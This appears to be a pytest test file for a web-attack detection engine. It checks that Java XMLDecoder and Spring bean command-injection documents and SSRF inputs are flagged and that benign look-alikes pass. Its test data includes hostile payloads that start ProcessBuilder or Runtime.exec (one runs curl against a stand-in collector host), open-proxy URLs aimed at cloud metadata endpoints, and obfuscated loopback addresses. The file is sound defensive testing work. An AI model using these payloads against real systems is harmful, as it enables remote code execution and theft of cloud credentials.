"""Unit: the shapes of the fresh26 first contact.

Command injection: a Java object document (``java.beans.XMLDecoder`` input, a Spring bean definition) that builds
``java.lang.ProcessBuilder``/``java.lang.Runtime`` and starts it, as an XML body or as a string value. SSRF: a public
URL whose path or query names the next hop of an open proxy (a metadata address anywhere, another internal address
after a URL-named part); a loopback/link-local address in a notation no address printer writes (hex, zero-padded
octal, ideographic full stops, link-local in three parts) as a whole value in any location; a metadata address in
such a notation in a routing header; ``http:@0/`` (empty user name, host 0). Values are our own; none comes from a
corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.fields import xml_fields
from bastion.detection.java_decoder import process_document
from bastion.detection.ssrf import disguised_address, is_ssrf, next_hop

BODY = Context("body", "note")
HEADER = Context("header", "referer")
PATH = Context("path")
KEY = Context("body", "", is_key=True)

DECODER_BUILDER = (
    '<?xml version="1.0"?>\n<java class="java.beans.XMLDecoder">\n <object class="java.lang.ProcessBuilder">\n'
    '  <array class="java.lang.String" length="2"><void index="0"><string>touch</string></void>'
    '<void index="1"><string>/tmp/owned</string></void></array>\n  <void method="start"/>\n </object>\n</java>')
DECODER_RUNTIME = (
    "<java><object class='java.lang.Runtime' method='getRuntime'><void method='exec'>"
    "<string>curl http://collector.test/x</string></void></object></java>")
SPRING_BEAN = (
    '<beans xmlns="http://www.springframework.org/schema/beans"><bean id="p" class="java.lang.ProcessBuilder" '
    'init-method="start"><constructor-arg><list><value>id</value></list></constructor-arg></bean></beans>')


@pytest.mark.parametrize("doc", [DECODER_BUILDER, DECODER_RUNTIME, SPRING_BEAN])
def test_process_document_as_xml_body(engine: Engine, doc: str) -> None:
    hit = engine.first(list(xml_fields(doc)))
    assert hit is not None and hit[1].rule.attack == "cmdi"


@pytest.mark.parametrize("doc", [DECODER_BUILDER, DECODER_RUNTIME, SPRING_BEAN])
@pytest.mark.parametrize("ctx", [BODY, HEADER, Context("cookie", "state"), Context("query", "payload")])
def test_process_document_as_string(engine: Engine, doc: str, ctx: Context) -> None:
    assert engine.inspect(doc, ctx) is not None


BENIGN_DOCUMENTS = [
    # java.beans in a decoder document that builds an ordinary bean
    '<?xml version="1.0"?><java version="17" class="java.beans.XMLDecoder"><object class="javax.swing.JButton">'
    '<void property="text"><string>Save</string></void></object></java>',
    # the process classes named in text, not as the class of an element
    "<doc><p>Use java.lang.ProcessBuilder and call start() to launch a process.</p>"
    "<p>Runtime.exec is older.</p></doc>",
    # a class attribute of another class, a start method elsewhere
    '<beans><bean class="java.lang.StringBuilder" init-method="start"/></beans>',
    # HTML with a CSS class and a method attribute
    '<form method="post" class="java-lang"><input name="start"/></form>',
]


@pytest.mark.parametrize("doc", BENIGN_DOCUMENTS)
def test_benign_xml_documents_pass(engine: Engine, doc: str) -> None:
    assert engine.first(list(xml_fields(doc))) is None
    assert process_document(doc) is None


OPEN_PROXY = [
    "https://relay.example.net/proxy/169.254.169.254/latest/meta-data/iam/",
    "http://cache.example.org/fetch/169.254.169.254:80/computeMetadata/v1/",
    "https://mirror.example.com/get?u=169.254.169.254&path=/latest/user-data",
    "http://hop.example.net/p/metadata.google.internal/computeMetadata/v1/",
    "http://hop.example.net/p/[fd00:ec2::254]/latest/meta-data/",
    "https://gw.example.com/proxy/10.0.0.7:8080/admin",
    "https://gw.example.com/forward?url=127.0.0.1&x=1",
    "http://gw.example.com/redirect/localhost:6379/",
]


@pytest.mark.parametrize("url", OPEN_PROXY)
@pytest.mark.parametrize("ctx", [BODY, HEADER, KEY, Context("query", "cb")])
def test_open_proxy_next_hop_refused(engine: Engine, url: str, ctx: Context) -> None:
    found = engine.inspect(url, ctx)
    assert found is not None and found.rule.attack == "ssrf"


BENIGN_URLS = [
    "https://docs.example.com/networking/10.0.0.1/subnets",  # a private address not after a URL-named part
    "https://wiki.example.org/wiki/Private_network#10.0.0.0/8",
    "https://example.com/releases/127.0.6533.88/notes",  # a browser version, not an address part
    "https://cdn.example.com/img/169.254.png",
    "https://example.com/search?q=169.254+link-local",
    "See https://en.wiktionary.org/wiki/proxy and https://example.com/host/name",
    "https://example.com/target/2130706433",  # a number, not a dotted address
]


@pytest.mark.parametrize("url", BENIGN_URLS)
@pytest.mark.parametrize("ctx", [BODY, HEADER, Context("query", "link")])
def test_benign_urls_pass(engine: Engine, url: str, ctx: Context) -> None:
    assert engine.inspect(url, ctx) is None


DISGUISED = [
    "0x7F.0.0.0x1",
    "0x7f.1",
    "0177.0.0.01",
    "127.0000.0000.1",
    "127\u30020\u30020\u30021",
    "127\uff0e0\uff0e0\uff0e1",
    "169.254.43690",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
]




BENIGN_NUMBERS = [
    "127.0.0.1",  # the ordinary form, as X-Forwarded-For carries it
    "169.254.10.20",
    "10.0.0.1",
    "127.0.6533.88",  # a browser version
    "127.5",
    "169.99",
    "01.02.2026",
    "05.11.1999",
    "00.00",
    "0x1f.0x20",
    "2130706433",
    "v127.0.1",
    "127.0.0.1 is loopback",
    "192.168.000.001",
]


@pytest.mark.parametrize(("value", "refused"), [(v, True) for v in DISGUISED] + [(v, False) for v in BENIGN_NUMBERS])
@pytest.mark.parametrize("ctx", [HEADER, Context("header", "x-forwarded-for"), PATH, KEY, BODY])
def test_disguised_addresses_refused_ordinary_numbers_pass(engine: Engine, value: str, refused: bool,
                                                            ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert (found is not None and found.rule.attack == "ssrf") is refused


@pytest.mark.parametrize("value", ["0xA9.254.0251.0376", "169.254.43518", "0251.0376.0251.0376:80",
                                   "169\u3002254\u3002169\u3002254"])
@pytest.mark.parametrize("name", ["host", "x-forwarded-host"])
def test_routing_header_metadata_any_notation(engine: Engine, value: str, name: str) -> None:
    assert engine.inspect(value, Context("header", name)) is not None


@pytest.mark.parametrize("value", ["10.0.0.5:8443", "127.0.0.1", "api.example.com", "0x7f.0.0.1"])
def test_routing_header_other_hosts_pass(engine: Engine, value: str) -> None:
    assert engine.inspect(value, Context("header", "host")) is None


@pytest.mark.parametrize("value", ["http:@0/", "https:@0:8080/admin", "http:@127.0.0.1/", "ws:@localhost/"])
@pytest.mark.parametrize("ctx", [HEADER, KEY, BODY])
def test_empty_host_userinfo_refused(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is not None


@pytest.mark.parametrize("value", ["http:@example.com/", "mail me: @alice", "ftp:anonymous@ftp.example.org",
                                   "note http: @0 is a placeholder"])
def test_userinfo_without_internal_host_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None


def test_long_inputs_are_linear() -> None:
    started = time.process_time()
    process_document("<void class=" * 12_000)
    process_document("java.lang." + "<a class='java.lang.Runtime' " * 4_500)
    next_hop("/proxy" * 22_000)
    next_hop("/169.254.169.1" * 9_000)
    disguised_address("0x7f." * 26_000)
    assert time.process_time() - started < 1.0


def test_long_urls_and_documents_are_linear() -> None:
    started = time.process_time()
    is_ssrf("http://relay.example/" + "proxy/10.0.0." * 10_000)
    is_ssrf("http://relay.example/?u=" + "&u=169.254.169.1" * 7_500)
    is_ssrf("http:@" * 22_000)
    process_document("<java><void class=\"java.lang.Runtime\" " * 3_300)
    assert time.process_time() - started < 1.0
